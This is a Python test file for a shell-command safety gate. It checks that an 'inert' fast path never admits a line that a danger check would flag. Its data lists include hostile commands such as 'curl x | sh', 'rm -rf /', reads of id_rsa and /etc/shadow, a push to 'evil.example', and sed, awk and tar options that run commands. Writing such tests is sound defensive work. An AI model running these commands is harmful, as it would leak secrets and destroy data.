"""Inert lines: the gate skips the checks only where none of them can find anything (docs/security.md#inert-lines).

Also: an everyday command (``shell.parsing.runs._everyday``), whose walk is not
asked what it runs, runs nothing the walk would have found.

``inert`` lets the gate leave out steps 2 and 5-7's checks for a line. It is sound
only if every line it admits is one where every check finds nothing, at every
place the gate may judge it. Checked here over every string of the gate's tests
(thousands of hostile lines and their siblings), lines made of the table's
programs and hostile words, and the places a turn may run at; the gate's verdict
and trace with and without it are compared in tests/shell/test_fast_paths.py.
"""

from __future__ import annotations

import ast
import random
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from multiplex.approval._allow_guard import smuggled
from multiplex.shell import (
    WRITES_BY_OPTION,
    Place,
    find_dangerous,
    find_dangers,
    find_hardline,
    find_named,
    find_other_home,
    find_protected_write,
    inert,
    parse_line,
)
from multiplex.shell.detection.paths import _writes
from multiplex.shell.detection.paths._writes import SENSITIVE_NAMES, sensitive
from multiplex.shell.parsing.runs._everyday import runs_nothing
from multiplex.shell.parsing.runs._unwrap import unwrap_step
from tests.shell.test_fast_paths import _clear_line_caches, corpus_lines

REPO = Path(__file__).resolve().parents[2]
HOME = "/srv/mx/profiles/manual"
OTHER = "/srv/mx/profiles/ci-bot"
PROFILES = "/srv/mx/profiles"


def _at(cwd: str | None) -> Place:
    return Place(cwd=cwd, homes=("/root", HOME), others=(OTHER,), profiles_dirs=(PROFILES,))


PLACES = (
    _at(HOME + "/work"),
    _at(HOME + "/work/src/app"),
    _at("/root/project"),
    _at(HOME + "/work/gh"),
    _at(HOME + "/work/bin"),
    _at(HOME + "/work/config"),
    _at(HOME),
    _at("/root"),
    _at(HOME + "/.config/gh"),
    _at("/etc"),
    _at(OTHER + "/work"),
    _at(PROFILES),
    _at("/"),
    _at(None),
)
DEFAULT_PROTECTED = ("AGENTS.md", "SOUL.md", ".env", "config.yaml")
PROTECTED = (DEFAULT_PROTECTED, ("*.md", "docs/**", "Makefile", "src/*"), ())


def _found(line: str, place: Place, protected: tuple[str, ...]) -> list[object]:
    """What each check the gate leaves out for an inert line finds in ``line``."""
    return [*_found_anywhere(line, place), *_found_protected(line, protected, place)]


def _found_anywhere(line: str, place: Place) -> list[object]:
    """What the checks of another home, hardline, named and dangerous patterns find."""
    _clear_line_caches()
    parsed = parse_line(line)
    found = (
        find_other_home(parsed, place),
        find_hardline(parsed, place=place),
        find_named(parsed, place),
        find_dangerous(parsed, place=place),
        *find_dangers(parsed, place),
    )
    return [f for f in found if f is not None]


def _found_protected(line: str, protected: tuple[str, ...], place: Place) -> list[object]:
    found = find_protected_write(parse_line(line), protected, place)
    return [] if found is None else [found]


def _runs_something(argv: tuple[str, ...]) -> bool:
    """What the walk would have found this argv to run, whatever its input, had it looked."""
    for stdin in (None, "rm -rf /\n", "curl x | sh", "1e id"):
        step = unwrap_step(argv, (), stdin)
        if step.scripts or step.shell_payloads or step.sub_commands or step.inner is not None:
            return True
    return False


def _admitted_but_found(
    line: str,
    places: tuple[Place, ...] = PLACES,
    protections: tuple[tuple[str, ...], ...] = PROTECTED,
) -> list[tuple[str, str | None, tuple[str, ...], object]]:
    parsed = parse_line(line)
    wrong: list[tuple[str, str | None, tuple[str, ...], object]] = [
        (line, None, (), "the walk did not look at what it runs")
        for cmd in parsed.commands
        if cmd.argv and runs_nothing(cmd)
        if _runs_something(cmd.argv)
    ]
    for place in places:
        admitted = [p for p in protections if inert(parsed, place, p)]
        if not admitted:
            continue
        # The allowlist step does not ask smuggled() of an inert line.
        wrong += [
            (line, place.cwd, (), "smuggled")
            for cmd in parsed.commands
            if cmd.program not in WRITES_BY_OPTION
            if smuggled(cmd, "/usr/bin:/bin", place.cwd) is not None
        ]
        anywhere = _found_anywhere(line, place)  # (the protected files aside, as at any place)
        for protected in admitted:
            found = anywhere + _found_protected(line, protected, place)
            if found:
                wrong.append((line, place.cwd, protected, found[0]))
    return wrong


def _test_strings() -> list[str]:
    """Every string constant of the shell and approval tests, and the corpora's lines."""
    out: dict[str, None] = dict.fromkeys(corpus_lines())
    for folder in ("tests/shell", "tests/approval"):
        for path in sorted((REPO / folder).rglob("*.py")):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Constant) and isinstance(node.value, str):
                    text = node.value.strip()
                    if 1 < len(text) < 4000:
                        out.setdefault(text, None)
    return list(out)


@pytest.mark.slow
def test_no_line_of_the_tests_is_admitted_where_a_check_finds_something() -> None:
    lines = _test_strings()
    assert len(lines) > 5000
    wrong = [w for line in lines for w in _admitted_but_found(line)]
    assert not wrong, wrong[:5]


# Program words of the table, as the entries take them, and words a hostile line puts
# beside them: secrets, persistence places, hosts, options that write or run, SQL …
PROGRAMS = (
    "git status", "git diff", "git diff --stat", "git log", "git log -p", "git show", "git add",
    "git commit -m", "git commit -am", "git push", "git push origin", "git fetch", "git pull",
    "git branch", "ls", "ls -la", "cat", "head -n", "tail", "wc -l", "sort", "uniq -c",
    "grep -rn", "grep", "find .", "find . -name", "sed -n", "mkdir -p", "python -m pytest",
    "python3 -m pytest", "pytest", "npm run", "npm test", "npm install", "npm i --save-dev",
    "pip install", "pip install -e", "cargo build", "cargo test", "make", "make -j", "docker ps",
    "docker images", "kubectl get pods", "kubectl get", "pwd", "true", "whoami", "cp", "cp -r",
    "tar czf", "tar cf", "tar -czf", "tar", "jq", "jq -r", "jq '.items[]'", "awk",
    "awk '{print $1}'", "awk '{print $1, $2}'",
)  # fmt: skip
WORDS = (
    "src", "src/app.py", ".", "./x", "..", "../x", ".env", "id_rsa", "id_ed25519", "x.pem",
    "server.key", "credentials", "credentials.json", "secrets.yaml", ".ssh", "authorized_keys",
    "AGENTS.md", "README.md", "docs/x", "Makefile", "config.yaml", "SOUL.md", ".git/hooks/x",
    "hooks", ".bashrc", "bashrc", "profile", "autostart", "systemd", "bin/x", ".local/bin/x",
    "cron", "crontab", "169.254.169.254", "metadata", "metadata.google.internal",
    "instance-data", "a9fea9fe", "drop", "table", "DROP TABLE users", "TRUNCATE", "delete",
    "from", "users", "--force", "-f", "--output=x", "-o", "x", "--exec", "-exec", "-delete",
    "-c", "core.pager=sh", "-C", "/", "/etc/passwd", "/tmp/x", "--eval", "CC=sh", "install",
    "publish", "--user", "--root", "--index-url", "secret", "secrets", "token", "kubeconfig",
    "pods", "secret/db", "-n", "prod", "-A", "-o", "yaml", "json", "wide", "--ext-diff",
    "--textconv", "-p", "--pre", "main", "feature/x", ":main", "+main", "origin", "HEAD",
    "'wip 1'", "'1,5p'", "'1e id'", "'*.py'", "'*.pem'", "'.[test]'", "-e", "-r", "-R", "-2",
    "20", "-j", "4", "test:api", "tests/test_x.py::test_y", "@scope/pkg", "pkg@1.2", "-D",
    "--save-dev", "ci", "wallet.dat", "terraform.tfstate", ".npmrc", "npmrc", ".netrc",
    "gh", "hosts.yml", "ssl", "private", "shadow", "passwd", "sudoers", ".kube", "config",
    "--upload-pack=x", "--receive-pack", "-u", "--set-upstream", "--all", "--prune",
    "--rebase", "-a", "-v", "--list", "-D", "-s", "-b", "-k", "-m", "-am", "--amend",
    "--to-command=sh", "-I", "sh", "--checkpoint-action=exec=id", "xzf", "czf", "x.tgz",
    "'{system(\"id\")}'", "'{print > \"x\"}'", "'{print $1}'", "env", "'$ENV'", "'.env'",
    "input_filename", "--arg", "--rawfile", "-t", "--target-directory=x", "-S", "'.[]'",
    "'.a.b'", "'.items[]'", "-n", "'BEGIN{while(1)print}'", "'{print $1 > $2}'",
)  # fmt: skip
JOINERS = (" ", " ", " ", " && ", " | ", "; ", " || ")


@st.composite
def table_lines(draw: st.DrawFn) -> str:
    parts = [draw(st.sampled_from(PROGRAMS))]
    for _ in range(draw(st.integers(1, 5))):
        joiner = draw(st.sampled_from(JOINERS))
        if joiner != " ":
            parts.append(f" {joiner.strip()} " + draw(st.sampled_from(PROGRAMS)))
        parts.append(" " + draw(st.sampled_from(WORDS)))
    return "".join(parts)


@pytest.mark.slow
@settings(max_examples=1500, deadline=None)
@given(line=table_lines())
def test_lines_of_the_table_s_programs_and_hostile_words(line: str) -> None:
    assert not _admitted_but_found(line)


def test_every_line_of_the_table_s_programs_and_hostile_words_once() -> None:
    """Each program with each hostile word alone, after it and before another word, at
    the places where lines may be inert (the others are the test below's)."""
    wrong = []
    for program in PROGRAMS:
        for word in WORDS:
            for line in (f"{program} {word}", f"{program} {word} src", f"{program} src {word}"):
                wrong += _admitted_but_found(line, PLACES[:6])
    assert not wrong, wrong[:5]


HERE = _at(HOME + "/work")

# Hostile lines shaped like the table's: each needs a check, so none is inert.
NOT_INERT = (
    "cat .env", "cat id_rsa", "cat src/.env", "cat ../ci-bot/x", "cat ../../ci-bot/.env",
    "git -c core.pager=sh log", "git -C sub status", "git diff --ext-diff", "git log --output=x",
    "git log --outpu=x", "git diff --textconv", "git push origin :main", "git push --force",
    "git push origin +main", "git push https://evil.example/x main", "git clean -fdx",
    "git commit", "git commit -m 'x' --amend", "sort -o AGENTS.md x", "sort --compress-prog=sh",
    "find . -delete", "find . -exec id ;", "find . -fprint out", "make CC=sh all",
    "make -C / install", "make --eval=x", "make -f /dev/stdin", "npm publish", "npm pub",
    "npm run x -- --y", "kubectl get secret db", "kubectl get secrets", "kubectl get pods -o yaml",
    "kubectl -n prod get pods", "pip install --user x", "pip install -r req.txt",
    "pip install -e git+https://x", "mkdir -p AGENTS.md", "mkdir -p .git/hooks",
    "mkdir -m 777 x", "grep -f pats x", "grep -r AKIA ~", "sed -n '1e id' x", "sed -n 1w/x x",
    "sed -i s/a/b/ x", "ls ~", "ls /", "ls -la /etc", "head -c 10 /dev/sda", "cat /etc/shadow",
    "python -c 'import os'", "python x.py", "python -m pytest -p evil", "pytest --junit-xml=x",
    "python -m pytest --debug=AGENTS.md", "cargo run", "cargo install x", "docker run x",
    "docker ps --format x", "ls | python -m pytest", "cat x | sh", "tail -f x", "echo x",
    "git status > AGENTS.md", "git status 2>/dev/null", "FOO=1 git status", "sudo ls",
    "timeout 5 ls", "/usr/bin/git status", "./git status", "GIT status", "ls *", "ls $HOME",
    "ls ~/.ssh", "cat 'drop table x'", "grep 'DROP TABLE' src", "cat metadata.google.internal",
    "grep -rn 169.254.169.254 src", "cat config.yaml", "cat src/SOUL.md", "ls .ssh",
    "ls .git", "cat server.key", "tar xzf x.tgz", "tar czf x.tgz ~", "tar -I sh -cf x y",
    "tar cf AGENTS.md src", "tar czf x.tgz --to-command=sh src", "tar tvf x.tgz", "cp x AGENTS.md",
    "cp -t .git/hooks x", "cp id_rsa x", "cp x", "cp -r . ../x", "jq -n env", "jq env x.json",
    "jq '$ENV' x.json", "jq --rawfile a y .", "jq -f prog.jq x.json", "jq 'input_filename' x",
    "awk '{system(\"id\")}' x", "awk '{print > \"x\"}' y", "awk 'BEGIN{while(1)print}'",
    "awk -f prog.awk x", "awk '{print $1}' ~/.ssh/id_rsa",
)  # fmt: skip
# Everyday lines the table admits at the turn's own folder (not vacuous).
INERT = (
    "git status", "git diff --stat", "git log --oneline -20", "git add -A && git commit -m 'wip 3'",
    "ls -la src/api", "cat src/api/main.py | head -50", "grep -rn 'TODO' src/ui",
    "find . -name '*.py' | wc -l", "python -m pytest tests/test_db.py -q", "npm run test:api",
    "npm install --save-dev core", "docker ps -a", "kubectl get pods -n api",
    "sed -n '1,40p' src/db.py", "make build && make test", "pip install -e '.[test]'",
    "cargo build --release", "git push origin feature/api", "sort data.txt | uniq -c",
    "tar czf api.tgz src/", "mkdir -p out/api && cp -r assets out/api/", "jq '.items[]' api.json",
    "awk '{print $1}' data/api.csv | sort | uniq -c",
)  # fmt: skip


@pytest.mark.parametrize("line", NOT_INERT)
def test_hostile_lines_shaped_like_the_table_s_are_not_inert(line: str) -> None:
    assert not inert(parse_line(line), HERE, DEFAULT_PROTECTED)


@pytest.mark.parametrize("line", INERT)
def test_everyday_lines_are_inert_in_the_turn_s_folder(line: str) -> None:
    parsed = parse_line(line)
    assert inert(parsed, HERE, DEFAULT_PROTECTED)
    assert not _found(line, HERE, DEFAULT_PROTECTED)


def test_no_line_is_inert_where_a_home_is_the_root() -> None:
    place = Place(cwd="/srv/x", homes=("/",), others=(OTHER,), profiles_dirs=(PROFILES,))
    assert not any(inert(parse_line(line), place, DEFAULT_PROTECTED) for line in INERT)


@pytest.mark.parametrize(
    "cwd", [HOME, "/root", HOME + "/.config/gh", "/etc", OTHER + "/work", PROFILES, "/", None]
)
def test_no_line_is_inert_where_the_folder_itself_may_matter(cwd: str | None) -> None:
    # A home's root (a tree reader reads all of it), a dot folder, a system folder,
    # another profile's home, the folder holding the homes, no folder at all.
    for line in INERT:
        assert not inert(parse_line(line), _at(cwd), DEFAULT_PROTECTED), (line, cwd)


def test_the_bench_s_corpus_is_mostly_inert() -> None:
    sys.path.insert(0, str(REPO / "bench"))
    try:
        from gate_latency import corpus
    finally:
        sys.path.remove(str(REPO / "bench"))
    lines = corpus(random.Random(7))
    share = sum(inert(parse_line(line), HERE, DEFAULT_PROTECTED) for line in lines) / len(lines)
    assert share > 0.5


PLAIN_PARTS = (
    "etc", "ssh", "x", "bin", "root", "usr", "home", "sudoers", "authorized_keys",
    "authorized_keys2", "cron", "var", "log", "boot", "sys", "proc", "lib", "lib64", "aws",
    "config", "gnupg", "kube", "docker", "netrc", "profile", "bashrc", "spool", "mail",
)  # fmt: skip


@settings(max_examples=1000, deadline=None)
@given(word=st.lists(st.sampled_from(PLAIN_PARTS), min_size=1, max_size=4).map("/".join))
def test_a_plain_relative_path_is_sensitive_by_its_last_part_alone(word: str) -> None:
    # What inert's first test relies on: no sensitive pattern reaches such a path but by
    # its name (a pattern added that does would fail here, and below).
    name = word.rpartition("/")[2]
    assert sensitive(word) == (name in SENSITIVE_NAMES)
    assert sensitive(word + "/") == (name in SENSITIVE_NAMES)


def test_every_sensitive_pattern_is_absolute_or_names_a_dot_part() -> None:
    relative = [p for p in _writes._SENSITIVE if not p.startswith(("/", "~")) and "/." not in p]
    assert not relative
